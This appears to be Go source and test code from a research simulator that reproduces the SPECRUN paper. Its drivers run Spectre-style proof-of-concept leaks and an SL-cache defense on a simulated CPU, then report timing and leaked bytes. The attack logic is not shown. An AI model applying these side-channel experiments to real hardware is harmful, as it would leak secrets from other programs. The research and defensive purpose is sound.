	row("L1 D-cache", fmt.Sprintf("%dKB, %d way, %d cycle", cfg.Mem.L1D.Size>>10, cfg.Mem.L1D.Assoc, cfg.Mem.L1D.Latency))
	row("L2 cache", fmt.Sprintf("%dKB, %d way, %d cycle", cfg.Mem.L2.Size>>10, cfg.Mem.L2.Assoc, cfg.Mem.L2.Latency))
	row("L3 cache", fmt.Sprintf("%dMB, %d way, %d cycle", cfg.Mem.L3.Size>>20, cfg.Mem.L3.Assoc, cfg.Mem.L3.Latency))
	row("Memory", fmt.Sprintf("request-based contention model, %d cycle", cfg.Mem.MemLatency))
	row("Runahead", cfg.Runahead.Kind.String())
	return b.String()
}

// FormatIPC renders a Fig. 7 run as a table, normalised to the no-runahead
// machine (the paper's "normalized IPC").
func FormatIPC(rows []IPCRow) string {
	var b strings.Builder
	b.WriteString("Fig. 7: normalized IPC (no-runahead = 1.00)\n")
	fmt.Fprintf(&b, "  %-8s %10s %10s %10s %9s %9s\n", "bench", "insts", "cyc(base)", "cyc(ra)", "IPC ratio", "episodes")
	for _, r := range rows {
		fmt.Fprintf(&b, "  %-8s %10d %10d %10d %9.3f %9d\n",
			r.Name, r.Insts, r.Cycles[0], r.Cycles[1], r.Speedup, r.Episodes)
	}
	fmt.Fprintf(&b, "  mean speedup: %.1f%% (paper: ~11%%)\n", (MeanSpeedup(rows)-1)*100)
	return b.String()
}

// FormatProbe renders a probe sweep as an ASCII version of Fig. 9/11.
func FormatProbe(r AttackResult, height int) string {
	if height <= 0 {
		height = 12
	}
	lat := r.Latencies
	var max uint64
	for _, v := range lat {
		if v > max {
			max = v
		}
	}
	if max == 0 {
		return "(no data)\n"
	}
	// Bucket 256 indices into 64 columns, keeping each bucket's minimum so
	// the dip stays visible.
	const cols = 64
	per := (len(lat) + cols - 1) / cols
	mins := make([]uint64, 0, cols)
	for i := 0; i < len(lat); i += per {
		m := lat[i]
		for j := i; j < i+per && j < len(lat); j++ {
			if lat[j] < m {
				m = lat[j]
			}
		}
		mins = append(mins, m)
	}
	var b strings.Builder
	fmt.Fprintf(&b, "access time (cycles) vs probe index; min=%d at %d, median=%d\n", r.BestLat, r.BestIdx, r.Median)
	for row := height; row > 0; row-- {
		cut := uint64(row) * max / uint64(height)
		b.WriteString("  |")
		for _, v := range mins {
			if v >= cut {
				b.WriteByte('#')
			} else {
				b.WriteByte(' ')
			}
		}
		b.WriteByte('\n')
	}
	b.WriteString("  +")
	b.WriteString(strings.Repeat("-", len(mins)))
	b.WriteString("\n   0")
	if pad := len(mins) - 8; pad > 0 {
		b.WriteString(strings.Repeat(" ", pad))
	}
	b.WriteString("255\n")
	if idx, ok := r.LeakedByte(); ok {
		fmt.Fprintf(&b, "  leaked value: %d (%q)\n", idx, string(rune(idx)))
	} else {
		b.WriteString("  no leak detected\n")
	}
	return b.String()
}

// FormatWindows renders the Fig. 10 measurements.
func FormatWindows(n1, n2, n3 attack.WindowResult) string {
	var b strings.Builder
	b.WriteString("Fig. 10: transient window size (ROB = 256 entries)\n")
	fmt.Fprintf(&b, "  N1 %-28s %5d  (paper: 255)\n", n1.Scenario, n1.N)
	fmt.Fprintf(&b, "  N2 %-28s %5d  (paper: 480)\n", n2.Scenario, n2.N)
	fmt.Fprintf(&b, "  N3 %-28s %5d  (paper: 840)\n", n3.Scenario, n3.N)
	return b.String()
}

// FormatDefense renders the §6 comparison.
func FormatDefense(d DefenseResult) string {
	var b strings.Builder
	b.WriteString("§6 defense evaluation (Fig. 11 attack, secret = 127)\n")
	line := func(name string, r AttackResult) {
		if v, ok := r.LeakedByte(); ok {
			fmt.Fprintf(&b, "  %-22s LEAKED byte %d (lat %d vs median %d)\n", name, v, r.BestLat, r.Median)
		} else {
			fmt.Fprintf(&b, "  %-22s no leak (min lat %d, median %d)\n", name, r.BestLat, r.Median)
		}
	}
	line("vulnerable runahead", d.Vulnerable)
	line("SL cache (Alg. 1)", d.Secure)
	line("skip INV branches", d.SkipINV)
	return b.String()
}

// FormatVariants renders the §4.3/§4.4 applicability matrix.
func FormatVariants(rows []VariantOutcome) string {
	var b strings.Builder
	b.WriteString("attack applicability matrix (§4.3 / §4.4)\n")
	for _, r := range rows {
		status := "no leak"
		if v, ok := r.Result.LeakedByte(); ok {
			status = fmt.Sprintf("leaked byte %d", v)
		}
		fmt.Fprintf(&b, "  %-24s %s (episodes %d, INV branches %d)\n",
			r.Label, status, r.Result.Stats.RunaheadEpisodes, r.Result.Stats.INVBranches)
	}
	return b.String()
}
