//go:build race

package core

// raceEnabled reports whether this test binary was built with the race
// detector, under which sync.Pool randomly drops Puts — pool-reuse tests
// must not demand deterministic hits there.
const raceEnabled = true
