package core

import (
	"context"
	"encoding/json"
	"testing"

	"specrun/internal/proggen"
	"specrun/internal/workload"
)

// TestIPCComparisonLaneInvariant pins the batched Fig. 7 driver's contract:
// the JSON-encoded rows are byte-identical to the serial sweep path at every
// lane count.
func TestIPCComparisonLaneInvariant(t *testing.T) {
	cfg := DefaultConfig()
	serial, err := RunIPCComparisonCtx(context.Background(), cfg, 2)
	if err != nil {
		t.Fatal(err)
	}
	want, err := json.Marshal(serial)
	if err != nil {
		t.Fatal(err)
	}
	for _, lanes := range []int{1, 4, 16} {
		rows, err := RunIPCComparisonLanes(context.Background(), cfg, 2, lanes)
		if err != nil {
			t.Fatalf("lanes=%d: %v", lanes, err)
		}
		got, err := json.Marshal(rows)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != string(want) {
			t.Errorf("lanes=%d: batched Fig. 7 rows diverged from serial:\nbatched: %s\nserial:  %s", lanes, got, want)
		}
	}
}

// TestRunProgramJobsMatchesStats pins the job runner against the pooled
// single-run path for a mixed-config job list, including an errored lane
// (budget exhaustion is reported per job, with zero stats, and does not
// perturb the lanes around it).
func TestRunProgramJobsMatchesStats(t *testing.T) {
	k, err := workload.ByName("mcf")
	if err != nil {
		t.Fatal(err)
	}
	jobs := []ProgramJob{
		{Cfg: DefaultConfig(), Prog: k.Build()},
		{Cfg: BaselineConfig(), Prog: k.Build()},
		{Cfg: SecureConfig(), Prog: proggen.Generate(7, proggen.DefaultOptions())},
	}
	stats, errs, runErr := RunProgramJobsCtx(context.Background(), jobs, 3, 1)
	if runErr != nil {
		t.Fatal(runErr)
	}
	for i, j := range jobs {
		want, wantErr := RunProgramStats(j.Cfg, j.Prog)
		if (wantErr == nil) != (errs[i] == nil) {
			t.Fatalf("job %d: err = %v, want %v", i, errs[i], wantErr)
		}
		if wantErr != nil {
			continue
		}
		a, _ := json.Marshal(stats[i])
		b, _ := json.Marshal(want)
		if string(a) != string(b) {
			t.Errorf("job %d stats diverged:\nbatched: %s\nserial:  %s", i, a, b)
		}
	}
}
