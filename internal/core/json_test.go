package core

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"specrun/internal/attack"
	"specrun/internal/cpu"
	"specrun/internal/runahead"
)

// TestConfigJSONRoundTrip pins the wire format: a configuration survives
// marshal → unmarshal exactly, including the enum text forms.
func TestConfigJSONRoundTrip(t *testing.T) {
	for name, cfg := range map[string]Config{
		"default":  DefaultConfig(),
		"baseline": BaselineConfig(),
		"secure":   SecureConfig(),
		"vector":   VariantConfig(runahead.KindVector),
	} {
		b, err := json.Marshal(cfg)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		var got Config
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if !reflect.DeepEqual(cfg, got) {
			t.Fatalf("%s: round trip mutated the config:\n%s", name, b)
		}
	}
	// Enums travel as text, not ints.
	b, _ := json.Marshal(DefaultConfig())
	for _, want := range []string{`"kind":"original"`, `"trigger_level":"mem"`} {
		if !strings.Contains(string(b), want) {
			t.Fatalf("encoded config missing %s:\n%s", want, b)
		}
	}
}

func sampleAttackResult() AttackResult {
	return AttackResult{
		Analysis: attack.Analysis{
			Latencies: []uint64{200, 12, 200},
			BestIdx:   1,
			BestLat:   12,
			Median:    200,
			Leaked:    true,
		},
		Layout: attack.Layout{Array1: 0x1000, Array2: 0x2000, Results: 0x3000, Secret: 0x1400, MaliciousX: 1024, Stride: 512},
		Stats:  cpu.Stats{Cycles: 9000, Committed: 4000, RunaheadEpisodes: 2, INVBranches: 1, EpisodeReaches: []uint64{100, 480}},
	}
}

// TestResultJSONRoundTrip covers every result row the API serves.
func TestResultJSONRoundTrip(t *testing.T) {
	ar := sampleAttackResult()
	for name, v := range map[string]any{
		"ipc_row": &IPCRow{Name: "mcf", Cycles: [2]uint64{100, 80}, Insts: 50,
			IPC: [2]float64{0.5, 0.625}, Episodes: 3, Speedup: 1.25, Description: "pointer chasing"},
		"fig11":   &Fig11Result{Runahead: ar, NoRunahead: ar},
		"defense": &DefenseResult{Vulnerable: ar, Secure: ar, SkipINV: ar},
		"variant": &VariantOutcome{Label: "spectre-pht", Result: ar},
	} {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		got := reflect.New(reflect.TypeOf(v).Elem()).Interface()
		if err := json.Unmarshal(b, got); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if !reflect.DeepEqual(v, got) {
			t.Fatalf("%s: round trip mutated the value:\n%s", name, b)
		}
	}
}

// TestNormalize: zero-valued fields fill with Table 1 defaults; the fields
// whose zero is meaningful survive.
func TestNormalize(t *testing.T) {
	if got, want := Normalize(Config{}), BaselineConfig(); !reflect.DeepEqual(got, want) {
		t.Fatalf("Normalize(zero) = %+v\nwant baseline %+v", got, want)
	}
	cfg := Config{ROBSize: 128}
	cfg.Runahead.Kind = runahead.KindPrecise
	cfg.Secure.Enabled = true
	got := Normalize(cfg)
	if got.ROBSize != 128 || got.Runahead.Kind != runahead.KindPrecise || !got.Secure.Enabled {
		t.Fatalf("Normalize dropped explicit fields: %+v", got)
	}
	if got.FetchWidth != DefaultConfig().FetchWidth || got.Mem.L2.Size != DefaultConfig().Mem.L2.Size {
		t.Fatalf("Normalize left zero fields: %+v", got)
	}
	// Normalizing is idempotent and a no-op on a complete config.
	if d := DefaultConfig(); !reflect.DeepEqual(Normalize(d), d) {
		t.Fatal("Normalize mutated a complete config")
	}
}

// TestHashKey: deterministic, config-sensitive, normalize-stable.
func TestHashKey(t *testing.T) {
	p := attack.DefaultParams()
	k1, err := HashKey("fig9", Normalize(DefaultConfig()), p)
	if err != nil {
		t.Fatal(err)
	}
	k2, _ := HashKey("fig9", Normalize(DefaultConfig()), p)
	if k1 != k2 {
		t.Fatal("HashKey is not deterministic")
	}
	if k3, _ := HashKey("fig10", Normalize(DefaultConfig()), p); k3 == k1 {
		t.Fatal("driver name does not reach the key")
	}
	small := DefaultConfig()
	small.ROBSize = 64
	if k4, _ := HashKey("fig9", Normalize(small), p); k4 == k1 {
		t.Fatal("config does not reach the key")
	}
	// A sparse config normalizes onto the same key as its explicit form.
	sparse := Config{}
	sparse.Runahead.Kind = runahead.KindOriginal
	if k5, _ := HashKey("fig9", Normalize(sparse), p); k5 != k1 {
		t.Fatal("normalized sparse config hashes differently from the default machine")
	}
	p2 := p
	p2.Secret = []byte{127}
	if k6, _ := HashKey("fig9", Normalize(DefaultConfig()), p2); k6 == k1 {
		t.Fatal("params do not reach the key")
	}
}
