// Package core is the public face of the SPECRUN reproduction: a Machine
// wrapper around the cycle-level CPU model, the Table 1 default
// configuration, and one driver per experiment in the paper's evaluation
// (Fig. 7, Fig. 9, Fig. 10, Fig. 11, the §4.3/§4.4 variants and the §6
// defense).  Command-line tools, examples and benchmarks all go through
// this package.
package core

import (
	"fmt"

	"specrun/internal/asm"
	"specrun/internal/attack"
	"specrun/internal/cpu"
	"specrun/internal/runahead"
	"specrun/internal/workload"
)

// Config is the machine configuration (re-exported from the CPU model).
type Config = cpu.Config

// DefaultConfig returns the Table 1 processor with original runahead.
func DefaultConfig() Config { return cpu.DefaultConfig() }

// BaselineConfig returns the Table 1 processor with runahead disabled.
func BaselineConfig() Config {
	cfg := cpu.DefaultConfig()
	cfg.Runahead.Kind = runahead.KindNone
	return cfg
}

// SecureConfig returns the Table 1 processor with the §6 SL-cache defense.
func SecureConfig() Config {
	cfg := cpu.DefaultConfig()
	cfg.Secure.Enabled = true
	return cfg
}

// VariantConfig returns the Table 1 processor running a runahead variant.
func VariantConfig(kind runahead.Kind) Config {
	cfg := cpu.DefaultConfig()
	cfg.Runahead.Kind = kind
	return cfg
}

// Machine is one simulated processor instance executing one program.
type Machine struct {
	*cpu.CPU
	Prog *asm.Program
}

// NewMachine builds a machine running prog.
func NewMachine(cfg Config, prog *asm.Program) *Machine {
	return &Machine{CPU: cpu.New(cfg, prog), Prog: prog}
}

// defaultBudget bounds experiment simulations.
const defaultBudget = 50_000_000

// RunProgram executes prog to completion on a fresh machine and returns it.
func RunProgram(cfg Config, prog *asm.Program) (*Machine, error) {
	m := NewMachine(cfg, prog)
	if err := m.Run(defaultBudget); err != nil {
		return nil, err
	}
	return m, nil
}

// IPCRow is one bar pair of Fig. 7.
type IPCRow struct {
	Name        string
	Cycles      [2]uint64 // [no-runahead, runahead]
	Insts       uint64
	IPC         [2]float64
	Episodes    uint64
	Speedup     float64 // IPC[1]/IPC[0]
	Description string
}

// RunIPCComparison reproduces Fig. 7: every workload kernel on the baseline
// and the runahead machine, reporting normalized IPC.
func RunIPCComparison(base Config) ([]IPCRow, error) {
	raCfg := base
	if raCfg.Runahead.Kind == runahead.KindNone {
		raCfg.Runahead.Kind = runahead.KindOriginal
	}
	noCfg := base
	noCfg.Runahead.Kind = runahead.KindNone

	var rows []IPCRow
	for _, k := range workload.Kernels() {
		row := IPCRow{Name: k.Name, Description: k.Descr}
		for i, cfg := range []Config{noCfg, raCfg} {
			m, err := RunProgram(cfg, k.Build())
			if err != nil {
				return nil, fmt.Errorf("core: %s (%d): %w", k.Name, i, err)
			}
			st := m.Stats()
			row.Cycles[i] = st.Cycles
			row.Insts = st.Committed
			row.IPC[i] = st.IPC()
			if i == 1 {
				row.Episodes = st.RunaheadEpisodes
			}
		}
		row.Speedup = row.IPC[1] / row.IPC[0]
		rows = append(rows, row)
	}
	return rows, nil
}

// MeanSpeedup returns the geometric-mean runahead speedup of a Fig. 7 run.
func MeanSpeedup(rows []IPCRow) float64 {
	if len(rows) == 0 {
		return 0
	}
	prod := 1.0
	for _, r := range rows {
		prod *= r.Speedup
	}
	return pow(prod, 1.0/float64(len(rows)))
}

func pow(x, y float64) float64 {
	// Tiny wrapper to keep math import localised.
	return mathPow(x, y)
}

// AttackResult re-exports the attack outcome type.
type AttackResult = attack.Result

// RunAttack executes one PoC variant on the given machine configuration.
func RunAttack(cfg Config, p attack.Params) (AttackResult, error) {
	return attack.Run(attack.ConfigFor(p.Variant, cfg), p)
}

// RunFig9 reproduces Fig. 9: the PHT PoC on the runahead machine with
// secret byte 86.
func RunFig9(cfg Config) (AttackResult, error) {
	return RunAttack(cfg, attack.DefaultParams())
}

// Fig11Result pairs the two machines of Fig. 11.
type Fig11Result struct {
	Runahead   AttackResult
	NoRunahead AttackResult
}

// RunFig11 reproduces Fig. 11: the nop-padded gadget (secret access beyond
// the ROB, secret byte 127) on a no-runahead and a runahead machine.
func RunFig11(cfg Config) (Fig11Result, error) {
	p := attack.DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300

	ra, err := RunAttack(cfg, p)
	if err != nil {
		return Fig11Result{}, err
	}
	no := cfg
	no.Runahead.Kind = runahead.KindNone
	noR, err := RunAttack(no, p)
	if err != nil {
		return Fig11Result{}, err
	}
	return Fig11Result{Runahead: ra, NoRunahead: noR}, nil
}

// RunFig10 reproduces the N1/N2/N3 window measurements.
func RunFig10(cfg Config) (n1, n2, n3 attack.WindowResult, err error) {
	return attack.MeasureAllWindows(cfg)
}

// DefenseResult compares the attack under the vulnerable and secure machines.
type DefenseResult struct {
	Vulnerable AttackResult
	Secure     AttackResult
	SkipINV    AttackResult
}

// RunDefense reproduces the §6 evaluation: the Fig. 11 attack against the
// vulnerable runahead machine, the SL-cache machine and the skip-INV-branch
// restriction.
func RunDefense(cfg Config) (DefenseResult, error) {
	p := attack.DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300

	var out DefenseResult
	var err error
	if out.Vulnerable, err = RunAttack(cfg, p); err != nil {
		return out, err
	}
	sec := cfg
	sec.Secure.Enabled = true
	if out.Secure, err = RunAttack(sec, p); err != nil {
		return out, err
	}
	skip := cfg
	skip.Runahead.SkipINVBranch = true
	out.SkipINV, err = RunAttack(skip, p)
	return out, err
}

// VariantOutcome is one row of the §4.3/§4.4 applicability matrix.
type VariantOutcome struct {
	Label  string
	Result AttackResult
}

// RunVariantMatrix runs the PoC across Spectre variants (§4.4) and runahead
// variants (§4.3).
func RunVariantMatrix(cfg Config) ([]VariantOutcome, error) {
	var out []VariantOutcome
	// Spectre variants on original runahead.
	for _, v := range []attack.Variant{attack.VariantPHT, attack.VariantBTB, attack.VariantRSBOverwrite, attack.VariantRSBFlush} {
		p := attack.DefaultParams()
		p.Variant = v
		if v == attack.VariantPHT || v == attack.VariantBTB {
			p.NopPad = 300
		}
		r, err := RunAttack(cfg, p)
		if err != nil {
			return nil, err
		}
		out = append(out, VariantOutcome{Label: "spectre-" + v.String(), Result: r})
	}
	// Runahead variants with the PHT attack.
	for _, k := range []runahead.Kind{runahead.KindPrecise, runahead.KindVector} {
		p := attack.DefaultParams()
		p.NopPad = 300
		c := cfg
		c.Runahead.Kind = k
		r, err := RunAttack(c, p)
		if err != nil {
			return nil, err
		}
		out = append(out, VariantOutcome{Label: "runahead-" + k.String(), Result: r})
	}
	return out, nil
}
