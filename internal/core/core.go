// Package core is the public face of the SPECRUN reproduction: a Machine
// wrapper around the cycle-level CPU model, the Table 1 default
// configuration, and one driver per experiment in the paper's evaluation
// (Fig. 7, Fig. 9, Fig. 10, Fig. 11, the §4.3/§4.4 variants and the §6
// defense).  Command-line tools, examples and benchmarks all go through
// this package.
//
// Every multi-run driver shards its independent simulations across a
// worker pool via specrun/internal/sweep.  Each Run* function has a
// Run*Ctx sibling taking a context (cancellation) and a worker count
// (0 = GOMAXPROCS); the plain form runs with background context and the
// default pool.  Results are byte-identical at any worker count because
// every job simulates a fresh machine.
package core

import (
	"container/list"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"sync"
	"sync/atomic"

	"specrun/internal/asm"
	"specrun/internal/attack"
	"specrun/internal/cpu"
	"specrun/internal/runahead"
	"specrun/internal/sweep"
	"specrun/internal/workload"
)

// Config is the machine configuration (re-exported from the CPU model).
type Config = cpu.Config

// DefaultConfig returns the Table 1 processor with original runahead.
func DefaultConfig() Config { return cpu.DefaultConfig() }

// BaselineConfig returns the Table 1 processor with runahead disabled.
func BaselineConfig() Config {
	cfg := cpu.DefaultConfig()
	cfg.Runahead.Kind = runahead.KindNone
	return cfg
}

// SecureConfig returns the Table 1 processor with the §6 SL-cache defense.
func SecureConfig() Config {
	cfg := cpu.DefaultConfig()
	cfg.Secure.Enabled = true
	return cfg
}

// VariantConfig returns the Table 1 processor running a runahead variant.
func VariantConfig(kind runahead.Kind) Config {
	cfg := cpu.DefaultConfig()
	cfg.Runahead.Kind = kind
	return cfg
}

// Machine is one simulated processor instance executing one program.
type Machine struct {
	*cpu.CPU
	Prog *asm.Program
}

// NewMachine builds a machine running prog.
func NewMachine(cfg Config, prog *asm.Program) *Machine {
	return &Machine{CPU: cpu.New(cfg, prog), Prog: prog}
}

// Reset rewinds the machine to its just-constructed state and loads prog,
// reusing every internal allocation (caches, predictor tables, uop pool,
// memory pages).  A reset machine produces byte-identical statistics to a
// fresh NewMachine(cfg, prog) — the property the sweep drivers rely on to
// run one machine per worker instead of one per job.
func (m *Machine) Reset(prog *asm.Program) {
	m.CPU.Reset(prog)
	m.Prog = prog
}

// defaultBudget bounds experiment simulations.
const defaultBudget = 50_000_000

// RunProgram executes prog to completion on a fresh machine and returns it.
func RunProgram(cfg Config, prog *asm.Program) (*Machine, error) {
	m := NewMachine(cfg, prog)
	if err := m.Run(defaultBudget); err != nil {
		return nil, err
	}
	return m, nil
}

// machinePools caches reusable machines per configuration for
// [RunProgramStats]: multi-run drivers simulate thousands of programs on a
// handful of configurations, and rebuilding the multi-megabyte cache and
// predictor arrays per job dominated their allocation profile.  Keyed by the
// configuration's canonical JSON; at most one machine per worker per
// configuration is live at a time, and idle machines are released under GC
// pressure (sync.Pool semantics via sweep.Local).
//
// The pool set itself is a bounded LRU over configurations: a long-lived
// `specrun serve` answering grid sweeps can touch an unbounded number of
// distinct configurations, and each pool holds up to one ~3 MB machine per
// worker.  Evicting the least-recently-used configuration drops its
// sweep.Local (the machines become garbage); the next request for that
// configuration simply rebuilds.  PoolStats surfaces the counters on
// GET /v1/stats.
const machinePoolCap = 64

type poolLRU struct {
	mu        sync.Mutex
	ll        *list.List // front = most recently used; values are *poolEntry
	entries   map[string]*list.Element
	evictions uint64
	// Reuse counters: a hit recycled a warm machine via Reset, a miss built
	// one from scratch.  Updated lock-free from RunProgramStats (pool.Get
	// happens outside the LRU lock).
	hits   atomic.Uint64
	misses atomic.Uint64
}

type poolEntry struct {
	key   string
	local *sweep.Local[*Machine]
}

var machinePools = poolLRU{
	ll:      list.New(),
	entries: make(map[string]*list.Element, machinePoolCap),
}

// get returns the pool for key, creating (and possibly evicting) as needed.
func (l *poolLRU) get(key string) *sweep.Local[*Machine] {
	l.mu.Lock()
	defer l.mu.Unlock()
	if el, ok := l.entries[key]; ok {
		l.ll.MoveToFront(el)
		return el.Value.(*poolEntry).local
	}
	if len(l.entries) >= machinePoolCap {
		victim := l.ll.Back()
		l.ll.Remove(victim)
		delete(l.entries, victim.Value.(*poolEntry).key)
		l.evictions++
	}
	e := &poolEntry{key: key, local: sweep.NewLocal(func() *Machine { return nil })}
	l.entries[key] = l.ll.PushFront(e)
	return e.local
}

// PoolStats reports the machine-pool LRU state.
type PoolStats struct {
	Configs   int    `json:"configs"`   // configurations with a live pool
	Capacity  int    `json:"capacity"`  // LRU bound
	Evictions uint64 `json:"evictions"` // configurations dropped since process start
	Hits      uint64 `json:"hits"`      // jobs that recycled a warm machine
	Misses    uint64 `json:"misses"`    // jobs that built a machine from scratch
}

// MachinePoolStats returns the current machine-pool counters (served on
// GET /v1/stats and /metrics).
func MachinePoolStats() PoolStats {
	machinePools.mu.Lock()
	defer machinePools.mu.Unlock()
	return PoolStats{
		Configs:   len(machinePools.entries),
		Capacity:  machinePoolCap,
		Evictions: machinePools.evictions,
		Hits:      machinePools.hits.Load(),
		Misses:    machinePools.misses.Load(),
	}
}

func poolFor(cfg Config) *sweep.Local[*Machine] {
	key, err := json.Marshal(cfg)
	if err != nil {
		return nil // unkeyable config (cannot happen for real Config values)
	}
	return machinePools.get(string(key))
}

// RunProgramStats executes prog to completion on a pooled machine and
// returns the run statistics by value.  Use it instead of RunProgram when
// only the Stats outcome matters: the machine itself is recycled for the
// next job rather than escaping to the caller.
func RunProgramStats(cfg Config, prog *asm.Program) (cpu.Stats, error) {
	pool := poolFor(cfg)
	if pool == nil {
		m, err := RunProgram(cfg, prog)
		if err != nil {
			return cpu.Stats{}, err
		}
		return *m.Stats(), nil
	}
	m := pool.Get()
	if m == nil {
		machinePools.misses.Add(1)
		m = NewMachine(cfg, prog)
	} else {
		machinePools.hits.Add(1)
		m.Reset(prog)
	}
	err := m.Run(defaultBudget)
	st := *m.Stats()
	// The stats copy must not share the reaches buffer with the recycled
	// machine: the next job truncates and overwrites it.
	st.EpisodeReaches = append([]uint64(nil), st.EpisodeReaches...)
	pool.Put(m)
	if err != nil {
		return cpu.Stats{}, err
	}
	return st, nil
}

// DefaultProgramBudget is the cycle budget RunProgram-family functions use
// when the caller does not set one.
const DefaultProgramBudget = defaultBudget

// progressChunk is the slice size RunProgramStatsCtx simulates between
// cancellation checks and progress reports: large enough that the slicing
// is invisible in the run-time profile, small enough that cancellation and
// progress stay responsive (a slice is a few milliseconds of wall clock).
const progressChunk = 2_000_000

// RunProgramStatsCtx is RunProgramStats for service jobs: it executes prog
// on a pooled machine in progressChunk-cycle slices, honouring ctx between
// slices and reporting simulated cycles to onProgress (which may be nil).
// budget zero means DefaultProgramBudget.  The result is identical to an
// uncancelled RunProgramStats run — CPU.Run is resumable, so slicing does
// not perturb the simulation.
func RunProgramStatsCtx(ctx context.Context, cfg Config, prog *asm.Program, budget uint64, onProgress func(cycles, budget uint64)) (cpu.Stats, error) {
	if budget == 0 {
		budget = DefaultProgramBudget
	}
	pool := poolFor(cfg)
	var m *Machine
	if pool != nil {
		m = pool.Get()
	}
	if m == nil {
		machinePools.misses.Add(1)
		m = NewMachine(cfg, prog)
	} else {
		machinePools.hits.Add(1)
		m.Reset(prog)
	}
	var err error
	for {
		if err = ctx.Err(); err != nil {
			break
		}
		step := progressChunk
		if done := m.Stats().Cycles; budget-done < uint64(step) {
			step = int(budget - done)
		}
		err = m.Run(uint64(step))
		done := m.Stats().Cycles
		if onProgress != nil {
			onProgress(min(done, budget), budget)
		}
		if err == nil || !errors.Is(err, cpu.ErrMaxCycles) || done >= budget {
			break
		}
	}
	st := *m.Stats()
	st.EpisodeReaches = append([]uint64(nil), st.EpisodeReaches...)
	if pool != nil {
		pool.Put(m)
	}
	if err != nil {
		return cpu.Stats{}, err
	}
	return st, nil
}

// ProgramJob is one lane of a batched run: a program and the configuration
// to simulate it under.
type ProgramJob struct {
	Cfg  Config
	Prog *asm.Program
}

// RunProgramJobsCtx executes every job on a pooled machine and returns the
// per-job statistics and errors (both aligned with jobs; an errored job's
// stats are zero).  Jobs are chunked into groups of `lanes` machines advanced
// in lockstep by the batch driver (lanes <= 1 means one machine per group),
// and the groups shard across `workers` goroutines.  Results are
// byte-identical at any lane or worker count: machines share nothing, so the
// tick interleaving is unobservable.  The returned error reports
// cancellation; per-job simulation failures only appear in the error slice.
func RunProgramJobsCtx(ctx context.Context, jobs []ProgramJob, lanes, workers int) ([]cpu.Stats, []error, error) {
	if lanes < 1 {
		lanes = 1
	}
	stats := make([]cpu.Stats, len(jobs))
	errs := make([]error, len(jobs))
	groups := make([][2]int, 0, (len(jobs)+lanes-1)/lanes)
	for lo := 0; lo < len(jobs); lo += lanes {
		groups = append(groups, [2]int{lo, min(lo+lanes, len(jobs))})
	}
	// Each group occupies one worker slot (and one sweep.Gate slot) for its
	// whole lockstep run; groups write disjoint stats/errs ranges.
	_, runErr := sweep.Run(ctx, groups, func(_ context.Context, g [2]int) (struct{}, error) {
		lo, hi := g[0], g[1]
		ms := make([]*cpu.CPU, hi-lo)
		pools := make([]*sweep.Local[*Machine], hi-lo)
		machines := make([]*Machine, hi-lo)
		for i := lo; i < hi; i++ {
			j := jobs[i]
			pool := poolFor(j.Cfg)
			var m *Machine
			if pool != nil {
				m = pool.Get()
			}
			if m == nil {
				machinePools.misses.Add(1)
				m = NewMachine(j.Cfg, j.Prog)
			} else {
				machinePools.hits.Add(1)
				m.Reset(j.Prog)
			}
			ms[i-lo], pools[i-lo], machines[i-lo] = m.CPU, pool, m
		}
		cpu.RunLockstep(ms, defaultBudget, errs[lo:hi])
		for i := lo; i < hi; i++ {
			m := machines[i-lo]
			if errs[i] == nil {
				st := *m.Stats()
				// Clone the reaches buffer: the recycled machine's next job
				// truncates and overwrites it (same contract as
				// RunProgramStats).
				st.EpisodeReaches = append([]uint64(nil), st.EpisodeReaches...)
				stats[i] = st
			}
			if pools[i-lo] != nil {
				pools[i-lo].Put(m)
			}
		}
		return struct{}{}, nil
	}, sweep.Options{Workers: workers})
	return stats, errs, runErr
}

// RunIPCComparisonLanes is RunIPCComparisonCtx routed through the batched
// driver: the 2×len(kernels) simulations run in lockstep lane groups instead
// of one sweep job each.  Rows are byte-identical to RunIPCComparisonCtx at
// any lane count.
func RunIPCComparisonLanes(ctx context.Context, base Config, workers, lanes int) ([]IPCRow, error) {
	raCfg := base
	if raCfg.Runahead.Kind == runahead.KindNone {
		raCfg.Runahead.Kind = runahead.KindOriginal
	}
	noCfg := base
	noCfg.Runahead.Kind = runahead.KindNone

	kernels := workload.Kernels()
	ipcJobs := make([]ipcJob, 0, 2*len(kernels))
	jobs := make([]ProgramJob, 0, 2*len(kernels))
	for _, k := range kernels {
		ipcJobs = append(ipcJobs, ipcJob{kernel: k, cfg: noCfg}, ipcJob{kernel: k, cfg: raCfg, ra: true})
		jobs = append(jobs, ProgramJob{Cfg: noCfg, Prog: k.Build()}, ProgramJob{Cfg: raCfg, Prog: k.Build()})
	}
	stats, errs, runErr := RunProgramJobsCtx(ctx, jobs, lanes, workers)
	if runErr != nil {
		return nil, runErr
	}
	for i, err := range errs {
		if err != nil { // first failing job, like sweep.First's fail-fast error
			j := ipcJobs[i]
			return nil, fmt.Errorf("core: %s (ra=%v): %w", j.kernel.Name, j.ra, err)
		}
	}

	rows := make([]IPCRow, 0, len(kernels))
	for i, k := range kernels {
		row := IPCRow{Name: k.Name, Description: k.Descr}
		for col, st := range stats[2*i : 2*i+2] {
			row.Cycles[col] = st.Cycles
			row.Insts = st.Committed
			row.IPC[col] = st.IPC()
			if col == 1 {
				row.Episodes = st.RunaheadEpisodes
			}
		}
		row.Speedup = row.IPC[1] / row.IPC[0]
		rows = append(rows, row)
	}
	return rows, nil
}

// IPCRow is one bar pair of Fig. 7.
type IPCRow struct {
	Name        string     `json:"name"`
	Cycles      [2]uint64  `json:"cycles"` // [no-runahead, runahead]
	Insts       uint64     `json:"insts"`
	IPC         [2]float64 `json:"ipc"`
	Episodes    uint64     `json:"episodes"`
	Speedup     float64    `json:"speedup"` // IPC[1]/IPC[0]
	Description string     `json:"description"`
}

// ipcJob is one simulation of the Fig. 7 grid: kernel × {baseline, runahead}.
type ipcJob struct {
	kernel workload.Kernel
	cfg    Config
	ra     bool // second column (runahead machine)
}

